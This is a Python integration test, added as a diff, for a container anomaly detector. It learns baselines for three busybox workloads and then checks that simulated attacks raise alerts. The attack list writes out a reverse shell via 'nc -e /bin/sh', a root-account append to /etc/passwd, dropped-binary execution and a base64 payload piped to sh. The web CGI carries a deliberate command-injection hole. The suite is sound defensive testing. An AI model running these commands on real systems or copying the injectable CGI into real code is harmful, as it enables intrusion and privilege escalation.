@@ -1,0 +1,356 @@
+"""Scenario suite: three normal workloads learned by the real agent, benign variations that must
+stay quiet, then attacks that must each raise the right alert within 10 s.
+
+Workloads (each its own image, so its own baseline; busybox shell scripts):
+- web: busybox httpd on the host's loopback (``--network host``, port from $PORT) with a CGI
+  that writes a mktemp file per request, appends to an access log and rotates it every 20
+  lines to ``access.log.<epoch>``. Requests come from this test process (host: not traced).
+- cron: every second a job writes a timestamped report and prunes all but the newest three.
+- worker: every 0.3 s sends a job to a backend at 127.0.0.1:$BACKEND_PORT and appends a log
+  line; the backend is a busybox ``nc -lk`` in its own container.
+
+Phases: learn (``--learn-for``) -> benign variations (faster rate, a second web replica, a
+restart, rotations with new names, the backend stopped for 6 s) -> attacks on the web container.
+Nothing is exec'd into a container in the benign phase: ``docker exec`` is itself new
+behaviour (a process with no parent in the container), which a baseline rightly reports.
+
+The module prints a recall / false-alert summary (README "Detection quality" quotes it).
+"""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import json
+import socket
+import subprocess
+import sys
+import tarfile
+import threading
+import time
+import urllib.request
+from collections.abc import Callable
+from dataclasses import dataclass
+
+import pytest
+
+from tests.support.agent_proc import AgentProcess
+from tests.support.containers import run_container
+from tests.support.images import workload_image
+
+pytestmark = pytest.mark.integration
+
+LEARN_SECONDS = 25
+ALERT_DEADLINE = 10.0  # the issue's "within 10 s"
+
+WEB_START = """#!/bin/sh
+mkdir -p /tmp /var/log/web
+exec httpd -f -p 127.0.0.1:$PORT -h /www
+"""
+WEB_CGI = """#!/bin/sh
+tmp=$(mktemp /tmp/req.XXXXXX)
+echo "$QUERY_STRING" > "$tmp"
+echo "$(date +%s) $QUERY_STRING" >> /var/log/web/access.log
+if [ "$(wc -l < /var/log/web/access.log)" -ge 20 ]; then
+    mv /var/log/web/access.log "/var/log/web/access.log.$(date +%s)"
+fi
+case "$QUERY_STRING" in
+    debug=*) sh -c "${QUERY_STRING#debug=}" > /dev/null 2>&1 ;;  # the injectable bug
+esac
+echo "Content-Type: text/plain"
+echo
+cat "$tmp"
+rm -f "$tmp"
+"""
+CRON_LOOP = """#!/bin/sh
+while true; do /app/job.sh; sleep 1; done
+"""
+CRON_JOB = """#!/bin/sh
+d=/data/reports
+mkdir -p $d
+date > /data/last-run
+echo "report" > "$d/report-$(date +%Y%m%d%H%M%S).txt"
+ls -t $d | tail -n +4 | while read -r f; do rm -f "$d/$f"; done
+"""
+WORKER_LOOP = """#!/bin/sh
+mkdir -p /var/log
+while true; do
+    echo "job $(date +%s)" | nc -w1 127.0.0.1 $BACKEND_PORT > /dev/null 2>&1
+    echo "$(date +%s) sent" >> /var/log/worker.log
+    sleep 0.3
+done
+"""
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+class Traffic:
+    """HTTP GETs to the web containers from this (host, untraced) process at a set rate."""
+
+    def __init__(self, ports: list[int], interval: float) -> None:
+        self.ports = list(ports)
+        self.interval = interval
+        self.sent = 0
+        self.failed = 0
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+
+    def __enter__(self) -> Traffic:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._stop.set()
+        self._thread.join(10)
+
+    def _run(self) -> None:
+        n = 0
+        while not self._stop.is_set():
+            for port in list(self.ports):
+                n += 1
+                ok = get(port, f"page={n}") is not None
+                self.sent += ok
+                self.failed += not ok
+            self._stop.wait(self.interval)
+
+
+def get(port: int, query: str, timeout: float = 3.0) -> str | None:
+    try:
+        with urllib.request.urlopen(f"http://127.0.0.1:{port}/cgi-bin/app?{query}",
+                                    timeout=timeout) as response:
+            return response.read().decode()
+    except OSError:
+        return None
+
+
+def wait_until(predicate: Callable[[], object], timeout: float, what: str) -> object:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        result = predicate()
+        if result:
+            return result
+        time.sleep(0.2)
+    raise AssertionError(f"timed out after {timeout} s waiting for {what}")
+
+
+def baseline_modes(state_dir) -> dict[str, str]:
+    cmd = [sys.executable, "-m", "driftwarden", "baseline", "--state-dir", str(state_dir),
+           "--json", "list"]
+    out = subprocess.run(cmd, capture_output=True, text=True, timeout=30, check=False)
+    if out.returncode != 0:
+        return {}
+    return {b["image_id"]: b["mode"] for b in json.loads(out.stdout)}
+
+
+def files_in(container, directory: str) -> list[str]:
+    """Names under `directory`, read through Docker's archive API (no exec in the container)."""
+    stream, _ = container.container.get_archive(directory)
+    data = io.BytesIO(b"".join(stream))
+    with tarfile.open(fileobj=data) as tar:
+        return [m.name for m in tar.getmembers() if m.isfile()]
+
+
+def reasons(alert) -> list[tuple[str, str]]:
+    return [(r["code"], r["text"]) for r in alert["reasons"]]
+
+
+def detail(alert, key: str) -> str:
+    return str(alert["reasons"][0]["details"].get(key, ""))
+
+
+@dataclass
+class Attack:
+    name: str
+    run: Callable[[], None]
+    expect: dict[str, Callable[[dict], bool]]  # what must be reported: name -> alert predicate
+    latency: dict[str, float] | None = None
+
+
+class ReverseShellListener:
+    """The attacker's end of a reverse shell, on the host loopback: accepts, sends `exit`."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(1)
+        self.port = self.sock.getsockname()[1]
+        self.connected = threading.Event()
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        with contextlib.suppress(OSError):
+            conn, _ = self.sock.accept()
+            self.connected.set()
+            with conn:
+                conn.sendall(b"id\nexit\n")
+                conn.settimeout(5)
+                with contextlib.suppress(OSError):
+                    conn.recv(4096)
+
+    def close(self) -> None:
+        self.sock.close()
+
+
+def test_scenarios_learn_benign_attack(kernel_ok, docker_ok, bb_image, tmp_path, capsys):
+    web_image = workload_image("web", {"/app/start.sh": (WEB_START, 0o755),
+                                       "/www/cgi-bin/app": (WEB_CGI, 0o755)})
+    cron_image = workload_image("cron", {"/app/cron.sh": (CRON_LOOP, 0o755),
+                                         "/app/job.sh": (CRON_JOB, 0o755)})
+    worker_image = workload_image("worker", {"/app/worker.sh": (WORKER_LOOP, 0o755)})
+    web_port, web2_port, backend_port = free_port(), free_port(), free_port()
+    state = tmp_path / "state"
+    agent = AgentProcess(state, tmp_path / "alerts.jsonl",
+                         ["--window", "1", "--learn-for", str(LEARN_SECONDS)])
+    host = {"network": "host"}
+    with contextlib.ExitStack() as stack:
+        stack.enter_context(agent)
+        backend = stack.enter_context(run_container(
+            bb_image, ["nc", "-lk", "-p", str(backend_port), "-e", "/bin/cat"],
+            name="backend", **host))
+        web = stack.enter_context(run_container(
+            web_image, ["/app/start.sh"], name="web", environment={"PORT": str(web_port)},
+            **host))
+        stack.enter_context(run_container(cron_image, ["/app/cron.sh"], name="cron"))
+        stack.enter_context(run_container(
+            worker_image, ["/app/worker.sh"], name="worker",
+            environment={"BACKEND_PORT": str(backend_port)}, **host))
+        wait_until(lambda: get(web_port, "ping") is not None, 15, "the web server")
+        traffic = stack.enter_context(Traffic([web_port], interval=0.2))
+        images = {web.container.attrs["Image"], cron_image_id(cron_image),
+                  cron_image_id(worker_image), backend.container.attrs["Image"]}
+
+        # -- learn --------------------------------------------------------------------------
+        wait_until(lambda: all(baseline_modes(state).get(i) == "monitor" for i in images),
+                   LEARN_SECONDS + 30, "every workload image to finish learning")
+        learned_at = len(agent.alerts())
+        learning_alerts = agent.alerts()[:learned_at]
+        assert not learning_alerts, [reasons(a) for a in learning_alerts]
+
+        # -- benign variations (each must raise nothing) --------------------------------------
+        benign_started = time.time()
+        traffic.interval = 0.05  # four times the learned request rate
+        time.sleep(5)
+        traffic.interval = 0.2
+        web2 = stack.enter_context(run_container(
+            web_image, ["/app/start.sh"], name="web-2", environment={"PORT": str(web2_port)},
+            **host))
+        wait_until(lambda: get(web2_port, "ping") is not None, 15, "the second replica")
+        traffic.ports.append(web2_port)
+        time.sleep(4)
+        web.container.restart(timeout=2)
+        wait_until(lambda: get(web_port, "ping") is not None, 15, "the restarted web server")
+        time.sleep(3)
+        backend.container.stop(timeout=1)  # the worker's connects are refused for a while
+        time.sleep(6)
+        backend.container.start()
+        time.sleep(4)  # the last windows close and are scored
+        rotated = [n for n in files_in(web, "/var/log/web") if "access.log." in n]
+        assert len(rotated) >= 2, f"the web log was not rotated during the test: {rotated}"
+        benign_alerts = agent.alerts()[learned_at:]
+        false_benign = [(a["container"]["name"], a["kind"], reasons(a)) for a in benign_alerts]
+
+        # -- attacks on the web container ---------------------------------------------------
+        listener = ReverseShellListener()
+        stack.callback(listener.close)
+        new_port = free_port()
+        cid = web.id
+        attacks = [
+            Attack("drop and execute a copied binary",
+                   lambda: web.exec(["sh", "-c", "cp /bin/busybox /tmp/dropper; /tmp/dropper"]),
+                   {"drift exec-added-binary": lambda a: a["kind"] == "drift"
+                    and detail(a, "path") == "/tmp/dropper"
+                    and reasons(a)[0][0] == "exec-added-binary"}),
+            Attack("reverse shell nc -e /bin/sh",
+                   lambda: web.exec(["nc", "127.0.0.1", str(listener.port), "-e", "/bin/sh"]),
+                   {"novel connect to the listener": lambda a: a["kind"] == "novel"
+                    and f":{listener.port} " in detail(a, "item"),
+                    "novel nc -> shell lineage": lambda a: a["kind"] == "novel"
+                    and reasons(a)[0][0] == "new-lineage" and ":nc started" in detail(a, "item")
+                    and detail(a, "item").endswith(":sh")}),
+            Attack("write below /etc",
+                   lambda: web.exec(["sh", "-c", "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd"]),
+                   {"novel write /etc/passwd, high": lambda a: a["kind"] == "novel"
+                    and reasons(a)[0][0] == "new-write" and "/etc/passwd" in detail(a, "item")
+                    and a["severity"] == "high"}),
+            Attack("write into /bin",
+                   lambda: web.exec(["sh", "-c", "echo evil > /bin/evil"]),
+                   {"drift write-binary-dir": lambda a: a["kind"] == "drift"
+                    and reasons(a)[0][0] == "write-binary-dir"
+                    and detail(a, "path") == "/bin/evil"}),
+            Attack("connect to a new port",
+                   lambda: web.exec(["sh", "-c", f"nc -w1 127.0.0.1 {new_port} </dev/null"]),
+                   {"novel connect": lambda a: a["kind"] == "novel"
+                    and reasons(a)[0][0] == "new-connect"
+                    and f":{new_port} " in detail(a, "item")}),
+            Attack("shell spawned by the web server",
+                   lambda: get(web_port, "debug=id"),
+                   {"novel CGI -> shell lineage, high": lambda a: a["kind"] == "novel"
+                    and reasons(a)[0][0] == "new-lineage"
+                    and "/www/cgi-bin/app" in detail(a, "item")
+                    and detail(a, "item").endswith(":sh") and a["severity"] == "high"}),
+            Attack("chmod +x of a new file",
+                   lambda: web.exec(["sh", "-c", "echo '#!/bin/sh' > /tmp/run.sh; "
+                                     "chmod +x /tmp/run.sh"]),
+                   {"drift chmod-x-new-file": lambda a: a["kind"] == "drift"
+                    and reasons(a)[0][0] == "chmod-x-new-file"
+                    and detail(a, "path") == "/tmp/run.sh"}),
+            Attack("decoded payload piped to sh",
+                   lambda: web.exec(["sh", "-c", "echo aWQK | base64 -d | sh"]),
+                   {"novel exec of base64": lambda a: a["kind"] == "novel"
+                    and reasons(a)[0][0] == "new-exec" and ":base64" in detail(a, "item"),
+                    "novel shell fed by the pipe": lambda a: a["kind"] == "novel"
+                    and reasons(a)[0][0] == "new-lineage" and detail(a, "item").endswith(":sh")
+                    and a["process"]["argv"] == ["sh"]}),
+        ]
+        for attack in attacks:
+            start_wall = time.time()
+            attack.run()
+            attack.latency = {}
+            for what, predicate in attack.expect.items():
+                try:
+                    found = agent.wait_for_alerts(
+                        lambda a, p=predicate, t=start_wall: a["container"]["id"] == cid
+                        and a["time"] >= t - 1 and p(a),
+                        timeout=ALERT_DEADLINE, what=f"{attack.name}: {what}")
+                except AssertionError:
+                    continue
+                attack.latency[what] = max(0.0, found[0]["first_seen"] - start_wall)
+        # attacks must not have leaked alerts into the containers that were left alone
+        bystanders = [a for a in agent.alerts()[learned_at:]
+                      if a["container"]["id"] != cid and a["time"] >= benign_started]
+        false_bystander = [(a["container"]["name"], a["kind"], reasons(a)) for a in bystanders
+                           if a not in benign_alerts]
+        traffic_sent = traffic.sent
+    del web2
+
+    expected = sum(len(a.expect) for a in attacks)
+    detected = sum(len(a.latency or {}) for a in attacks)
+    missed = [f"{a.name}: {w}" for a in attacks for w in a.expect if w not in (a.latency or {})]
+    with capsys.disabled():
+        print(f"\nscenario suite: recall {detected}/{expected} expected alerts "
+              f"({len([a for a in attacks if len(a.latency or {}) == len(a.expect)])}/"
+              f"{len(attacks)} attacks fully detected), false alerts: "
+              f"{len(false_benign)} in the benign phase, {len(false_bystander)} on bystanders; "
+              f"{traffic_sent} requests served")
+        for attack in attacks:
+            lat = ", ".join(f"{w} {t:.2f} s" for w, t in (attack.latency or {}).items())
+            print(f"  {attack.name}: {lat or 'MISSED'}")
+        for name, kind, why in false_benign + false_bystander:
+            print(f"  FALSE ALERT {name} {kind}: {why}")
+    assert not false_benign, false_benign
+    assert not false_bystander, false_bystander
+    assert not missed, f"missed: {missed}; alerts: {[reasons(a) for a in agent.alerts()]}"
+
+
+def cron_image_id(tag: str) -> str:
+    from tests.support.containers import docker_client
+
+    client = docker_client()
+    try:
+        return client.images.get(tag).id
+    finally:
+        client.close()
